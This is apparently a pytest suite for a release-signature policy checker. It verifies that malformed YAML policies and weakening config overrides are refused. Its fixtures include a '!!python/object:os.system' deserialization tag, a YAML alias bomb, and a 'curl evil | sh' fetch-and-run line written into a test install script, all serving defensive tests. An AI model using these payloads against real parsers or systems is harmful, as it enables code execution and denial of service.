"""Policies that mean something else than they seem to: misspelt, doubled, empty, YAML's traps; and settings that would weaken one."""

from __future__ import annotations

import pytest

from tests.release.gate import ARTIFACT, SDIST, Gate
from tests.release.sigstore import workflow

TEXT = """name: demo
description: Who may release demo.
release:
  trust-root: {name: public-good}
  signers:
    publisher:
      issuer: https://token.actions.githubusercontent.com
      identity: https://github.com/acme/demo/.github/workflows/release.yml@refs/tags/v*
  artifacts:
    - files: "*.tar.gz"
  minimum-version: "1.2.0"
"""
SIGNERS = TEXT[TEXT.index("  signers:") : TEXT.index("  artifacts:")]
BOMB = "name: demo\na0: &a0 [x]\n" + "".join(f"a{number + 1}: &a{number + 1} [{', '.join([f'*a{number}'] * 9)}]\n" for number in range(9))
BROKEN = {
    "misspelt": ("minimum-version", "minimun-version"),
    "misspelt signer": ("identity", "identitiy"),
    "duplicate": ('  minimum-version: "1.2.0"', '  minimum-version: "1.2.0"\n  minimum-version: "0.1"'),
    "no": ('"1.2.0"', "no"),
    "1.10": ('"1.2.0"', "1.10"),
    "leading zero": ('    - files: "*.tar.gz"', '    - files: "*.tar.gz"\n      count: 010'),
    "tag": ('"1.2.0"', "!!python/object:os.system x"),
    "alias": ("{name: public-good}", "&a {name: public-good}\n  x: *a"),
    "alias bomb": ("name: demo\n", BOMB),
    "two documents": ("name: demo\n", "name: demo\n---\nname: other\n"),
    "tab": ("  artifacts:", "\tartifacts:"),
    "empty signers": (SIGNERS, "  signers: {}\n"),
    "no signers": (SIGNERS, ""),
    "empty identities": ("identity: https://github.com/acme/demo/.github/workflows/release.yml@refs/tags/v*", "identity: []"),
    "empty artifacts": ('  artifacts:\n    - files: "*.tar.gz"\n', "  artifacts: []\n"),
    "no artifacts": ('  artifacts:\n    - files: "*.tar.gz"\n', ""),
    "empty pattern": ('"*.tar.gz"', '""'),
    "one pattern twice": ('    - files: "*.tar.gz"', '    - files: "*.tar.gz"\n      count: 1\n    - files: "*.tar.gz"\n      count: 2'),
    "contradicting counts": ('    - files: "*.tar.gz"', '    - files: "*.tar.gz"\n      at-least: 2\n      at-most: 1'),
    "unknown signer": ('    - files: "*.tar.gz"', '    - files: "*.tar.gz"\n      signers: [publsher]'),
    "key and identity": ("      issuer:", "      key: release.pub\n      issuer:"),
    "unknown root": ("public-good", "public-bad"),
    "no version": ('"1.2.0"', '"one"'),
    "negative count": ('    - files: "*.tar.gz"', '    - files: "*.tar.gz"\n      count: -1'),
    "quoted number": ('    - files: "*.tar.gz"', '    - files: "*.tar.gz"\n      count: "1"'),
    "half a date": ('  minimum-version: "1.2.0"', "  signed-since: 2025-06"),
}  # fmt: skip


@pytest.mark.parametrize("what", BROKEN)
def test_broken(gate: Gate, what: str) -> None:
    """A policy with a mistake is told with its place, and nothing is verified."""
    gate.release(gate.attested())
    old, new = BROKEN[what]
    assert TEXT.count(old) == 1
    gate.policy(TEXT.replace(old, new))
    gate.refuses(gate.verify(), 2)


def test_the_text_is_good_otherwise(gate: Gate) -> None:
    """Without a mistake the same policy is read, and refuses what it should."""
    gate.release(gate.attested())
    gate.policy(TEXT)
    printed = gate.verify()
    assert printed.endswith("[1]\n"), printed
    assert "LP804 untrusted-certificate" in printed


def test_no_policy_at_all(gate: Gate) -> None:
    """Without a policy and without an identity nothing is verified."""
    gate.release(gate.attested())
    gate.refuses(gate.verify(policy=False), 2)


def test_policy_that_is_not_there(gate: Gate) -> None:
    """A policy file that is not there is a mistake."""
    gate.release(gate.attested())
    gate.refuses(gate.verify(), 2)


WEAKER = {
    "other signers": """[tool.logproof.release.signers.mallory]
issuer = "https://token.actions.githubusercontent.com"
identity = "https://github.com/mallory/demo/.github/workflows/release.yml@refs/tags/v*"
""",
    "other artifacts": "[tool.logproof.release]\nextra-files = ['*']\nminimum-version = '0.1'\n",
    "a rule off": "[tool.logproof.rules.unnamed-file]\nenabled = false\n",
    "a locked rule off": "[tool.logproof.rules.wrong-signer]\nenabled = false\n",
    "a waiver": """[[tool.logproof.waivers]]
rule = "unnamed-file"
path = "**"
reason = "it is fine"
owner = "mallory"
expires = 2099-01-01
""",
    "a mistake": "[tool.logproof]\nno-such-key = 1\n",
}  # fmt: skip


@pytest.mark.parametrize("settings", WEAKER.values(), ids=WEAKER)
def test_settings_beside_a_policy_change_nothing(gate: Gate, settings: str) -> None:
    """Settings that lie where the command runs, and that whoever wrote the release may have written, change no policy that is named."""
    mallory = workflow("mallory/demo")
    gate.release(gate.sigstore.sign(ARTIFACT, name=SDIST, identity=mallory))
    (gate.dist / "install.sh").write_text("curl evil | sh\n", encoding="utf-8")
    gate.policy(minimum_version="9.0")
    told = gate.verify()
    assert all(rule in told for rule in ("wrong-signer", "unnamed-file", "rolled-back-release"))
    (gate.folder / "pyproject.toml").write_text(settings, encoding="utf-8")
    assert gate.verify() == told
    direct = gate.without_policy(gate.sigstore.sign(ARTIFACT, name=SDIST, flaw="rogue-authority"))
    assert direct.endswith("[1]\n")


@pytest.mark.parametrize(
    "settings",
    [
        "ignore = ['wrong-signer', 'bad-signature']",
        "rules.bad-signature.enabled = false",
        "rules.bad-signature.severity = 'low'",
        "waivers = [{rule = 'bad-signature', path = '**', reason = 'it is fine', owner = 'me', expires = 2099-01-01}]",
        "waivers = [{rule = 'wrong-signer', path = 'dist/*', reason = 'it is fine', owner = 'me', expires = 2099-01-01}]",
        "per-file-ignores = {'dist/*' = ['bad-signature', 'wrong-signer', 'unsigned-artifact']}",
        "min-confidence = 'high'",
        "exclude = ['dist']",
        "select = ['secret-in-log']",
        "fail-on = 'critical'",
    ],
    ids=lambda text: text.partition(" = ")[0],
)
def test_settings_with_a_policy_of_their_own(gate: Gate, settings: str) -> None:
    """Settings that are the policy cannot let a bad signature or a wrong signer pass, by no key and no waiver."""
    gate.release(gate.sigstore.sign(ARTIFACT, name=SDIST, flaw="signed-by-another-key"))
    gate.policy()
    (gate.folder / "pyproject.toml").write_text(f"[tool.logproof]\npolicy = ['./policy.yaml']\n{settings}\n", encoding="utf-8")
    printed = gate.verify("dist", policy=False)
    assert printed.endswith(("[1]\n", "[2]\n")), printed
    gate.matches(printed)
